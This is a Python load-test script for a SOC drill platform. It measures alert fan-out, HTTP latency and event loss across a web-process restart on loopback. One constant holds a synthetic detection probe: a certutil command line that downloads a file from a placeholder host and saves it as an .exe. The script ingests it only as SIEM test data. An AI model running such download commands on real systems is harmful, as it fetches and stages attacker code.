"""``make loadtest``: live updates and the console under load, bounded and on loopback.

Scaled (the default): a private PostgreSQL and Redis (started here, as the tests
start them, unless ``--database-url``/``--redis-url`` name running ones), two
gunicorn web processes and one ``socdrill engine``. Embedded (``--embedded``): one
``socdrill serve`` on SQLite. In both, an exercise plays at 60x in a live tenant
(background noise in real time), N real Socket.IO clients (python-socketio) watch
the tenant's alerts and the exercise, HTTP users walk the console, and a prober
ingests one alert-raising event a second straight into the SIEM.

Half-way through, one web process (embedded: the only one) is killed with SIGKILL
and started again; its clients reconnect and replay by sequence number. At the end
it prints:

- alert fan-out latency (probe event ingested → ``alert.new`` at every client),
  p50/p95/max, and journal write → client for every live event;
- HTTP latency p50/p95 of the console's main endpoints;
- events lost and duplicated per client and room, across the restart;
- CPU and resident memory of every process.

The figures include the load generator's own delay: the clients run in this one
Python process on the same cores as the servers.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import itertools
import json
import os
import re
import secrets
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any

import requests
import socketio

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
# Accounts of a throw-away database; a fresh password each run all the same.
PASSWORD = secrets.token_urlsafe(18)
FAST_HASH = "pbkdf2:sha256:1000"
CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)">')
SCENARIO = ROOT / "scenarios" / "ransomware-finance.yml"
SPEED = 60.0
MAX_USERS = 50  # accounts; more clients share them (a person with several tabs)
START_TIMEOUT_S = 120.0
DRAIN_TIMEOUT_S = 20.0
CONNECT_TIMEOUT_S = 20.0  # what the Socket.IO browser client waits
MONITOR_SECONDS = 2.0
CLK_TCK = os.sysconf("SC_CLK_TCK")
# A process_creation event the bundled rule pack alerts on (certutil download).
PROBE_FIELDS = {
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "OriginalFileName": "CertUtil.exe",
    "CommandLine": "certutil -urlcache -split -f http://files.example.test/a.txt a.exe",
    "User": "CORP\\loadtest",
}


@dataclass(frozen=True)
class Options:
    embedded: bool
    clients: int
    http_users: int
    duration: float
    probe_interval: float
    restart: bool
    noise_scale: float
    database_url: str | None
    redis_url: str | None
    json_path: Path | None


def parse_args(argv: list[str] | None) -> Options:
    parser = argparse.ArgumentParser(
        prog="python -m bench.loadtest", description=__doc__.split("\n\n")[0]
    )
    parser.add_argument(
        "--embedded", action="store_true", help="one `socdrill serve` on SQLite"
    )
    parser.add_argument(
        "--clients", type=int, help="Socket.IO clients [200 scaled, 50 embedded]"
    )
    parser.add_argument("--http-users", type=int, default=10)
    parser.add_argument(
        "--duration", type=float, default=60.0, help="measured seconds [60]"
    )
    parser.add_argument("--probe-interval", type=float, default=1.0)
    parser.add_argument(
        "--no-restart", dest="restart", action="store_false", help="keep every process"
    )
    parser.add_argument(
        "--noise-scale", type=float, default=1.0, help="live noise volume [1.0]"
    )
    parser.add_argument("--database-url", help="an empty PostgreSQL database to use")
    parser.add_argument("--redis-url", help="a Redis to use (it is flushed)")
    parser.add_argument("--json", dest="json_path", type=Path, help="write figures")
    args = parser.parse_args(argv)
    clients = (
        args.clients if args.clients is not None else (50 if args.embedded else 200)
    )
    problems = []
    if not 1 <= clients <= 1000:
        problems.append("--clients must be between 1 and 1000")
    if not 0 <= args.http_users <= 100:
        problems.append("--http-users must be between 0 and 100")
    if not 10 <= args.duration <= 600:
        problems.append("--duration must be between 10 and 600 seconds")
    if not 0.1 <= args.probe_interval <= 10:
        problems.append("--probe-interval must be between 0.1 and 10 seconds")
    if not 0 <= args.noise_scale <= 10:
        problems.append("--noise-scale must be between 0 and 10")
    for url in (args.database_url, args.redis_url):
        if url and not re.match(
            r"^[a-z+]+://(?:[^@/]*@)?(127\.0\.0\.1|localhost)", url
        ):
            problems.append("the load test only talks to services on loopback")
    if args.embedded and (args.database_url or args.redis_url):
        problems.append("--embedded runs on SQLite without Redis")
    if problems:
        parser.error("; ".join(problems))
    return Options(
        embedded=args.embedded,
        clients=clients,
        http_users=args.http_users,
        duration=args.duration,
        probe_interval=args.probe_interval,
        restart=args.restart,
        noise_scale=args.noise_scale,
        database_url=args.database_url,
        redis_url=args.redis_url,
        json_path=args.json_path,
    )


# --- processes ----------------------------------------------------------------------


_STARTED = time.monotonic()


def say(message: str) -> None:
    print(f"load test [{time.monotonic() - _STARTED:5.1f} s]: {message}", flush=True)


def free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class Stack:
    """The platform's processes, each in its own process group (gunicorn's worker
    goes with its master), with their output in the work folder."""

    def __init__(self, folder: Path, env: dict[str, str]) -> None:
        self.folder = folder
        self.env = env
        self.processes: dict[str, subprocess.Popen[bytes]] = {}
        self.commands: dict[str, list[str]] = {}

    def start(self, role: str, command: list[str] | None = None) -> None:
        command = command or self.commands[role]
        self.commands[role] = command
        with (self.folder / f"{role}.log").open("ab") as log:
            self.processes[role] = subprocess.Popen(  # noqa: S603 (our own command)
                command,
                cwd=ROOT,
                env=self.env,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )

    def kill(self, role: str, signum: int = signal.SIGKILL) -> None:
        process = self.processes[role]
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signum)
        try:
            # A graceful stop waits for open WebSockets; the run is over anyway.
            process.wait(timeout=5)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()

    def stop_all(self) -> None:
        for role in list(self.processes):
            if self.processes[role].poll() is None:
                self.kill(role, signal.SIGTERM)

    def pid(self, role: str) -> int | None:
        process = self.processes.get(role)
        return process.pid if process is not None and process.poll() is None else None


def wait_serving(url: str, stack: Stack, role: str) -> None:
    deadline = time.monotonic() + START_TIMEOUT_S
    while time.monotonic() < deadline:
        if stack.processes[role].poll() is not None:
            log = (stack.folder / f"{role}.log").read_text(errors="replace")
            raise SystemExit(f"{role} exited:\n{log[-3000:]}")
        with contextlib.suppress(requests.RequestException):
            if requests.get(f"{url}/login", timeout=5).status_code == 200:
                return
        time.sleep(0.3)
    raise SystemExit(f"{role} did not answer on {url} in {START_TIMEOUT_S:.0f} s")


# --- CPU and memory per process -------------------------------------------------------


def _children() -> dict[int, list[int]]:
    tree: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError, IndexError, ValueError):
            stat = (entry / "stat").read_text()
            parent = int(stat.rsplit(")", 1)[1].split()[1])
            tree.setdefault(parent, []).append(int(entry.name))
    return tree


def _tree(pid: int, children: dict[int, list[int]]) -> list[int]:
    found, todo = [], [pid]
    while todo:
        current = todo.pop()
        found.append(current)
        todo.extend(children.get(current, []))
    return found


def _usage(pid: int) -> tuple[int, int] | None:
    """CPU ticks (user + system) and resident KiB of one process."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return None
    rss = re.search(r"^VmRSS:\s+(\d+)", status, re.MULTILINE)
    return int(stat[11]) + int(stat[12]), int(rss.group(1)) if rss else 0


class Monitor:
    """Samples each role's process tree: CPU share and resident memory."""

    def __init__(self, roles: Callable[[], dict[str, int | None]]) -> None:
        self.roles = roles
        self.ticks: dict[str, float] = {}
        self.seconds: dict[str, float] = {}
        self.rss_max: dict[str, int] = {}
        self._last: dict[str, dict[int, int]] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._sample(0.0)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=10)

    def _run(self) -> None:
        last = time.monotonic()
        while not self._stop.wait(MONITOR_SECONDS):
            now = time.monotonic()
            self._sample(now - last)
            last = now

    def _sample(self, elapsed: float) -> None:
        children = _children()
        for role, pid in self.roles().items():
            if pid is None:
                continue
            previous = self._last.get(role, {})
            current: dict[int, int] = {}
            rss = 0
            for member in _tree(pid, children):
                usage = _usage(member)
                if usage is not None:
                    current[member], kib = usage
                    rss += kib
            # Only processes seen at both samples count (a restart starts afresh).
            used = sum(t - previous[p] for p, t in current.items() if p in previous)
            if elapsed and previous:
                self.ticks[role] = self.ticks.get(role, 0.0) + used
                self.seconds[role] = self.seconds.get(role, 0.0) + elapsed
            self.rss_max[role] = max(self.rss_max.get(role, 0), rss)
            self._last[role] = current

    def figures(self) -> dict[str, dict[str, float]]:
        return {
            role: {
                "cpu_percent": round(
                    100.0 * self.ticks.get(role, 0.0) / CLK_TCK / self.seconds[role], 1
                )
                if self.seconds.get(role)
                else 0.0,
                "rss_mib": round(self.rss_max.get(role, 0) / 1024, 1),
            }
            for role in self.rss_max
        }


# --- set-up ---------------------------------------------------------------------------


@dataclass
class Setup:
    tenant_slug: str
    tenant_id: int
    exercise_id: int
    manager: str
    analysts: list[str]

    @property
    def rooms(self) -> list[str]:
        return [f"tenant:{self.tenant_id}", f"exercise:{self.exercise_id}"]


def prepare(options: Options) -> Setup:
    """Schema (the migrations `socdrill init` runs), accounts, a live tenant and a
    drill ready to start. Runs in this process's app context."""
    from flask_migrate import upgrade

    from socdrill import accounts
    from socdrill.database import write_transaction
    from socdrill.engine.live import start_live
    from socdrill.engine.settings import MAX_BASELINE_HOURS
    from socdrill.exercise.planning import create_draft, read_scenario_file
    from socdrill.extensions import db
    from socdrill.models import Job, Role

    upgrade()
    users = min(options.clients, MAX_USERS)
    with write_transaction():
        tenant = accounts.create_tenant("loadco", "Load test tenant", actor=None)
        team = accounts.create_team("Load team", actor=None)
        accounts.assign_tenant(team, tenant, actor=None, assigned=True)
        manager, _ = accounts.create_user(
            "load-manager",
            Role.MANAGER,
            actor=None,
            password=PASSWORD,
            can_launch=True,
        )
        accounts.join_team(manager, team, actor=None, job=Job.LEAD)
        analysts = []
        for number in range(users):
            user, _ = accounts.create_user(
                f"load-analyst-{number:03d}",
                Role.ANALYST,
                actor=None,
                password=PASSWORD,
            )
            accounts.join_team(user, team, actor=None, job=Job.L1_MONITORING)
            analysts.append(user.username)
    with write_transaction():
        exercise = create_draft(
            actor=db.session.merge(manager),
            name="Load test drill",
            tenant=db.session.merge(tenant),
            team=db.session.merge(team),
            scenario=read_scenario_file(SCENARIO, 512 * 1024),
            seed=20260105,
            speed_factor=SPEED,
        )
    start_live(
        db.session.merge(tenant),
        baseline_hours=0.25,
        max_baseline_hours=MAX_BASELINE_HOURS,
        scale=options.noise_scale,
    )
    return Setup(tenant.slug, tenant.id, exercise.id, manager.username, analysts)


def start_drill(setup: Setup) -> None:
    import sqlalchemy as sa

    from socdrill.exercise import lifecycle
    from socdrill.extensions import db
    from socdrill.models import User, utcnow

    manager = db.session.scalar(sa.select(User).where(User.username == setup.manager))
    now = utcnow()
    lifecycle.schedule(setup.exercise_id, manager, now)
    lifecycle.start(setup.exercise_id, manager, now)


def journal_heads(rooms: list[str]) -> dict[str, int]:
    from socdrill.exercise import journal
    from socdrill.extensions import db

    db.session.commit()
    heads = {room: journal.last_seq(room) for room in rooms}
    db.session.commit()
    return heads


def sign_in(url: str, username: str) -> str:
    """Sign in through the login form; the Cookie header a browser would send."""
    with requests.Session() as session:
        token = CSRF_META.search(session.get(f"{url}/login", timeout=30).text)
        if token is None:
            raise SystemExit("the login page has no CSRF token")
        response = session.post(
            f"{url}/login",
            data={"username": username, "password": PASSWORD, "csrf_token": token[1]},
            allow_redirects=False,
            timeout=30,
        )
        if response.status_code not in (302, 303):
            raise SystemExit(f"signing in {username} failed: {response.status_code}")
        return "; ".join(f"{c.name}={c.value}" for c in session.cookies)


# --- load ---------------------------------------------------------------------------


@dataclass
class Received:
    room: str
    seq: int
    kind: str
    host: str
    at: str
    when: float


class LiveClient:
    """One Socket.IO client: joins its rooms, rejoins after a reconnect with the last
    sequence numbers it saw, and records what arrived and when."""

    def __init__(self, urls: list[str], cookie: str, heads: dict[str, int]) -> None:
        # Its own web process first, the others as a balancer would fail over.
        self.urls = urls
        self.cookie = cookie
        self.closing = threading.Event()
        self.reconnecting = threading.Event()
        self.last_error = ""
        self.last = dict(heads)
        self.base = dict(heads)
        self.received: list[Received] = []
        self.outages: list[list[float]] = []
        self.resyncs = 0
        self.lock = threading.Lock()
        # Reconnecting is done here: python-socketio's own gives up on a server
        # that takes more than a second to accept, where a browser waits 20 s.
        self.sio = socketio.Client(reconnection=False)
        self.sio.on("connect", self._on_connect)
        self.sio.on("disconnect", self._on_disconnect)
        self.sio.on("*", self._on_event)

    def connect(self, url: str | None = None) -> None:
        self.sio.connect(
            url or self.urls[0],
            headers={"Cookie": self.cookie},
            transports=["websocket"],
            wait_timeout=CONNECT_TIMEOUT_S,
        )

    def _reconnect(self) -> None:
        try:
            for attempt in itertools.count():
                if self.closing.wait(min(2.0, 0.25 * 2**attempt)):
                    return
                if self.sio.connected:
                    return
                try:
                    self.connect(self.urls[attempt % len(self.urls)])
                    return
                except (socketio.exceptions.ConnectionError, ValueError) as error:
                    self.last_error = f"{type(error).__name__}: {error}"
        finally:
            self.reconnecting.clear()

    def close(self) -> None:
        self.closing.set()
        with contextlib.suppress(Exception):
            self.sio.disconnect()

    @property
    def rejoined(self) -> bool:
        with self.lock:
            return not self.outages or len(self.outages[-1]) > 1

    def _on_connect(self) -> None:
        for room in self.base:
            with self.lock:
                last = self.last[room]
            # Not call(): a handler must not wait for the answer it would read.
            self.sio.emit(
                "join",
                {"room": room, "last_seq": last},
                callback=functools.partial(self._joined, room),
            )

    def _joined(self, room: str, ack: Any) -> None:
        with self.lock:
            if self.outages and len(self.outages[-1]) == 1:
                self.outages[-1].append(time.time())

    def _on_disconnect(self, reason: Any = None) -> None:
        if self.closing.is_set():
            return
        with self.lock:
            if not self.outages or len(self.outages[-1]) > 1:
                self.outages.append([time.time()])
        if not self.reconnecting.is_set():
            self.reconnecting.set()
            threading.Thread(target=self._reconnect, daemon=True).start()

    def _on_event(self, event: str, data: Any = None) -> None:
        when = time.time()
        if not isinstance(data, dict) or not isinstance(data.get("room"), str):
            return
        with self.lock:
            if event == "resync":
                self.resyncs += 1
                self.last[data["room"]] = max(self.last[data["room"]], data["seq"])
                return
            payload = data.get("payload") or {}
            self.received.append(
                Received(
                    data["room"],
                    data["seq"],
                    event,
                    str(payload.get("host", "")),
                    str(data.get("at", "")),
                    when,
                )
            )
            self.last[data["room"]] = max(self.last[data["room"]], data["seq"])

    def away_at(self, instant: float) -> bool:
        """Was this client disconnected (or not yet rejoined) at ``instant``?"""
        with self.lock:
            for span in self.outages:
                end = span[1] if len(span) > 1 else float("inf")
                if span[0] <= instant <= end:
                    return True
        return False


class Prober(threading.Thread):
    """Ingests one alert-raising event (a new host each time) into the SIEM."""

    def __init__(self, siem_url: str, tenant: str, interval: float) -> None:
        super().__init__(daemon=True)
        from siem.store import EventStore

        self.store = EventStore.open(siem_url)
        self.tenant = tenant
        self.interval = interval
        self.ingested: dict[str, float] = {}
        self.stop = threading.Event()

    def run(self) -> None:
        from simulator.events import Event

        tag = secrets.token_hex(3)
        for number in itertools.count():
            if self.stop.wait(self.interval):
                return
            host = f"probe-{tag}-{number:04d}"
            now = time.time()
            event = Event(
                uid=f"probe-{tag}-{number}",
                ts=now,
                sensor="sysmon",
                host=host,
                product="windows",
                category="process_creation",
                service="sysmon",
                fields={**PROBE_FIELDS, "Computer": host},
                raw=json.dumps({**PROBE_FIELDS, "Computer": host}),
            )
            self.store.insert([event], tenant=self.tenant)
            self.ingested[host] = time.time()


@dataclass
class HttpStats:
    times: dict[str, list[float]] = field(default_factory=dict)
    errors: dict[str, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)


def http_user(
    urls: list[str], cookie: str, paths: dict[str, str], stats: HttpStats, stop
) -> None:
    """A console user: the queue page, its live rows and a search, with think time."""
    session = requests.Session()
    session.headers["Cookie"] = cookie
    for number in itertools.count():
        if stop.is_set():
            return
        for name, path in paths.items():
            url = urls[number % len(urls)] + path
            start = time.perf_counter()
            try:
                status = session.get(url, timeout=30, allow_redirects=False).status_code
            except requests.RequestException:
                status = 0
            elapsed = time.perf_counter() - start
            with stats.lock:
                if status == 200:
                    stats.times.setdefault(name, []).append(elapsed)
                else:
                    stats.errors[name] = stats.errors.get(name, 0) + 1
            if stop.wait(0.5):
                return


# --- figures --------------------------------------------------------------------------


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    if not ordered:
        return float("nan")
    return ordered[min(len(ordered) - 1, round(share * (len(ordered) - 1)))]


def spread(values: list[float]) -> dict[str, float]:
    return {
        "count": len(values),
        "p50_ms": round(percentile(values, 0.50) * 1000, 1),
        "p95_ms": round(percentile(values, 0.95) * 1000, 1),
        "max_ms": round(max(values) * 1000, 1) if values else float("nan"),
    }


def delivery_figures(
    clients: list[LiveClient], heads: dict[str, int], probes: dict[str, float]
) -> dict[str, Any]:
    lost = duplicated = resyncs = 0
    fanout: list[float] = []
    detection: list[float] = []
    delivery: list[float] = []
    after_reconnect: list[float] = []
    journal_to_client: list[float] = []
    for client in clients:
        with client.lock:
            received = list(client.received)
            resyncs += client.resyncs
        for room, head in heads.items():
            got = [r.seq for r in received if r.room == room and r.seq <= head]
            expected = set(range(client.base[room] + 1, head + 1))
            lost += len(expected - set(got))
            duplicated += len(got) - len(set(got))
        for item in received:
            at = _timestamp(item.at)
            away = at is not None and client.away_at(at)
            if item.kind == "alert.new" and item.host in probes:
                ingested = probes[item.host]
                if client.away_at(ingested):
                    after_reconnect.append(item.when - ingested)
                    continue
                fanout.append(item.when - ingested)
                if at is not None:
                    detection.append(at - ingested)
                    delivery.append(item.when - at)
            elif at is not None and not away:
                journal_to_client.append(item.when - at)
    per_probe: dict[str, list[float]] = {}
    for client in clients:
        with client.lock:
            for item in client.received:
                if item.kind == "alert.new" and item.host in probes:
                    per_probe.setdefault(item.host, []).append(
                        item.when - probes[item.host]
                    )
    first = min(probes.values(), default=0.0)
    return {
        # When each probe was ingested (seconds into the run) and how long its
        # alert took to reach the first and the last client.
        "probe_timeline": [
            [
                round(probes[host] - first, 2),
                round(min(times), 3),
                round(max(times), 3),
                len(times),
            ]
            for host, times in sorted(per_probe.items(), key=lambda i: probes[i[0]])
        ],
        "fanout": spread(fanout),
        "fanout_detection": spread(detection),
        "fanout_delivery": spread(delivery),
        "fanout_after_reconnect": spread(after_reconnect),
        "journal_to_client": spread(journal_to_client),
        "lost": lost,
        "duplicated": duplicated,
        "resyncs": resyncs,
        "probes": len(probes),
    }


def _timestamp(iso: str) -> float | None:
    try:
        moment = datetime.fromisoformat(iso)
    except ValueError:
        return None
    if moment.tzinfo is None:  # stored as UTC without a zone on some backends
        from datetime import UTC

        moment = moment.replace(tzinfo=UTC)
    return moment.timestamp()


def print_report(result: dict[str, Any]) -> None:
    mode = result["mode"]
    print(f"\n# socdrill load test — {mode} — {result['date']}")
    print(f"# {result['machine']}")
    print(
        f"# {result['clients']} Socket.IO clients, {result['http_users']} HTTP users, "
        f"{result['duration_s']:.0f} s at {SPEED:.0f}x with live noise, "
        f"{result['restarts']} web-process restart(s)"
    )
    live = result["delivery"]
    rows = [
        ("alert fan-out, ingest → client", live["fanout"]),
        ("  of which ingest → alert written", live["fanout_detection"]),
        ("  of which alert written → client", live["fanout_delivery"]),
        ("  same, clients that were reconnecting", live["fanout_after_reconnect"]),
        ("journal write → client (live)", live["journal_to_client"]),
    ]
    rows += [(f"HTTP {name}", figures) for name, figures in result["http"].items()]
    print(f"{'figure':44} {'n':>7} {'p50 ms':>9} {'p95 ms':>9} {'max ms':>9}")
    for name, figures in rows:
        print(
            f"{name:44} {figures['count']:>7} {figures['p50_ms']:>9} "
            f"{figures['p95_ms']:>9} {figures['max_ms']:>9}"
        )
    print(
        f"events lost: {live['lost']}, duplicated: {live['duplicated']}, "
        f"resyncs: {live['resyncs']} ({live['probes']} probes, "
        f"clients still away at the end: {result['clients_away_at_end']}, "
        f"HTTP errors: {result['http_errors']})"
    )
    print(f"{'process':14} {'CPU %':>7} {'RSS MiB':>9}")
    for role, figures in result["processes"].items():
        print(f"{role:14} {figures['cpu_percent']:>7} {figures['rss_mib']:>9}")


# --- the run --------------------------------------------------------------------------


@dataclass(frozen=True)
class Services:
    database_url: str | None
    siem_url: str | None
    redis_url: str | None
    pids: dict[str, int]


@contextlib.contextmanager
def services(options: Options) -> Iterator[Services]:
    """PostgreSQL and Redis for the scaled run: given ones, or private ones."""
    if options.embedded:
        yield Services(None, None, None, {})
        return
    started: list[Any] = []
    pids: dict[str, int] = {}
    try:
        database_url, redis_url = options.database_url, options.redis_url
        # With a given database the SIEM is a SQLite file in the work folder.
        siem_url = None
        from tests import services as harness

        try:
            if database_url is None:
                server = harness.start_postgres()
                started.append(server)
                database_url = server.create_database("loadtest")
                siem_url = server.create_database("loadtest_siem")
                pid_file = server.datadir / "postmaster.pid"
                pids["postgresql"] = int(pid_file.read_text().split()[0])
            if redis_url is None:
                redis_server = harness.start_redis()
                started.append(redis_server)
                redis_url = redis_server.url()
                pids["redis"] = redis_server.process.pid
        except BaseException as error:  # pytest's skip/fail outcomes are BaseException
            if isinstance(error, KeyboardInterrupt):
                raise
            raise SystemExit(f"cannot start the services: {error}") from None
        import redis

        with redis.Redis.from_url(redis_url) as client:
            client.flushdb()
        yield Services(database_url, siem_url, redis_url, pids)
    finally:
        for server in reversed(started):
            server.stop()


def settings(options: Options, folder: Path, found: Services) -> dict[str, str]:
    values = {
        "SOCDRILL_INSTANCE": str(folder / "instance"),
        "SOCDRILL_PASSWORD_HASH_METHOD": FAST_HASH,
        # Every client signs in from 127.0.0.1.
        "SOCDRILL_LOGIN_LIMIT_PER_IP": "100000 per minute",
        "SOCDRILL_ENGINE_NOISE_SCALE": str(options.noise_scale),
    }
    if not options.embedded:
        siem_url = found.siem_url or f"sqlite:///{folder / 'instance' / 'siem.db'}"
        values |= {
            "SOCDRILL_SECRET_KEY": secrets.token_hex(32),
            "SOCDRILL_DATABASE_URL": str(found.database_url),
            "SOCDRILL_SIEM_URL": siem_url,
            "SOCDRILL_REDIS_URL": str(found.redis_url),
            "SOCDRILL_WEB_PROCESSES": "2",
            "SOCDRILL_ENGINE_MODE": "external",
            # Plain HTTP on loopback.
            "SOCDRILL_SESSION_COOKIE_SECURE": "false",
        }
    return values


def run(options: Options) -> dict[str, Any]:
    with (
        tempfile.TemporaryDirectory(prefix="socdrill-loadtest-") as work,
        services(options) as found,
    ):
        folder = Path(work)
        values = settings(options, folder, found)
        for key in [k for k in os.environ if k.startswith("SOCDRILL_")]:
            del os.environ[key]
        os.environ.update(values)
        env = dict(os.environ)
        from socdrill import create_app
        from socdrill.extensions import db

        app = create_app()
        with app.app_context():
            say("preparing the database …")
            setup = prepare(options)
            siem_url = str(app.config["SIEM_URL"])
            db.session.remove()
            stack = Stack(folder, env)
            try:
                return drive(options, app, setup, stack, siem_url, found.pids)
            finally:
                stack.stop_all()
                db.session.remove()
                db.engine.dispose()
                say("done")


def drive(
    options: Options,
    app: Any,
    setup: Setup,
    stack: Stack,
    siem_url: str,
    service_pids: dict[str, int],
) -> dict[str, Any]:
    # Each open WebSocket holds a thread; one process must hold every client
    # while the other restarts.
    threads = str(options.clients + 50)
    urls: dict[str, str] = {}
    roles = ["serve"] if options.embedded else ["web-a", "web-b"]
    for role in roles:
        port = free_port()
        urls[role] = f"http://127.0.0.1:{port}"
        command = (
            [str(BIN / "socdrill"), "serve", "--host", "127.0.0.1", "--port", str(port)]
            if options.embedded
            else [
                str(BIN / "gunicorn"),
                "-w",
                "1",
                "--threads",
                threads,
                "-b",
                f"127.0.0.1:{port}",
                "wsgi:app",
            ]
        )
        stack.start(role, command)
    if not options.embedded:
        stack.start("engine", [str(BIN / "socdrill"), "engine"])
    say(f"starting {', '.join(stack.commands)} …")
    for role in roles:
        wait_serving(urls[role], stack, role)
    web_urls = list(urls.values())
    cookies = {name: sign_in(web_urls[0], name) for name in setup.analysts}
    heads = journal_heads(setup.rooms)
    clients = [
        LiveClient(
            web_urls[number % len(web_urls) :] + web_urls[: number % len(web_urls)],
            cookies[setup.analysts[number % len(setup.analysts)]],
            heads,
        )
        for number in range(options.clients)
    ]
    say(f"connecting {len(clients)} Socket.IO clients …")
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(lambda client: client.connect(), clients))

    monitor = Monitor(
        lambda: {
            **{role: stack.pid(role) for role in stack.commands},
            **service_pids,
            "load generator": os.getpid(),
        }
    )
    stop = threading.Event()
    stats = HttpStats()
    paths = {
        "GET /console": "/console",
        "GET /console/alerts/rows": "/console/alerts/rows",
        "GET /console/search/results": (
            f"/console/search/results?q=certutil&tenant={setup.tenant_slug}"
        ),
    }
    users = [
        threading.Thread(
            target=http_user,
            args=(
                web_urls,
                cookies[setup.analysts[number % len(setup.analysts)]],
                paths,
                stats,
                stop,
            ),
            daemon=True,
        )
        for number in range(options.http_users)
    ]
    # First requests compile templates and fill caches; they are not measured.
    for url, path in itertools.product(web_urls, paths.values()):
        with contextlib.suppress(requests.RequestException):
            requests.get(
                url + path, headers={"Cookie": cookies[setup.analysts[0]]}, timeout=60
            )
    prober = Prober(siem_url, setup.tenant_slug, options.probe_interval)
    say(f"exercise at {SPEED:.0f}x for {options.duration:.0f} s …")
    start_drill(setup)
    monitor.start()
    prober.start()
    for user in users:
        user.start()
    restarts = 0
    restart_at = time.monotonic() + options.duration * 0.4
    end_at = time.monotonic() + options.duration
    while time.monotonic() < end_at:
        if options.restart and restarts == 0 and time.monotonic() >= restart_at:
            victim = roles[-1]
            say(f"kill -9 {victim}, then start it again …")
            stack.kill(victim)
            stack.start(victim)
            wait_serving(urls[victim], stack, victim)
            restarts += 1
        time.sleep(0.2)
    say("draining …")
    stop.set()
    prober.stop.set()
    prober.join(timeout=10)
    for user in users:
        user.join(timeout=30)
    heads = journal_heads(setup.rooms)
    say("waiting for the last events …")
    deadline = time.monotonic() + DRAIN_TIMEOUT_S
    while time.monotonic() < deadline and not all(
        client.rejoined and client.last[room] >= head
        for client in clients
        for room, head in heads.items()
    ):
        time.sleep(0.2)
    monitor.stop()
    away = [client for client in clients if not client.rejoined]
    for client in away[:3]:
        say(f"a client did not rejoin: {client.last_error}")
    say("closing the clients …")
    with ThreadPoolExecutor(max_workers=50) as pool:
        list(pool.map(LiveClient.close, clients))
    say("closed")
    http = {name: spread(times) for name, times in stats.times.items()}
    mem = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 2**30
    return {
        "mode": "embedded (SQLite, one process)"
        if options.embedded
        else "scaled (PostgreSQL + Redis, 2 web processes + 1 engine)",
        "date": time.strftime("%Y-%m-%d %H:%M"),
        "machine": f"{os.cpu_count()} cores, {mem:.0f} GiB, load average "
        + " ".join(f"{x:.1f}" for x in os.getloadavg()),
        "clients": options.clients,
        "http_users": options.http_users,
        "duration_s": options.duration,
        "restarts": restarts,
        "delivery": delivery_figures(clients, heads, dict(prober.ingested)),
        "http": http,
        "http_errors": sum(stats.errors.values()),
        "clients_away_at_end": len(away),
        "processes": monitor.figures(),
    }


def main(argv: list[str] | None = None) -> int:
    options = parse_args(argv)
    result = run(options)
    print_report(result)
    if options.json_path:
        options.json_path.write_text(json.dumps(result, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
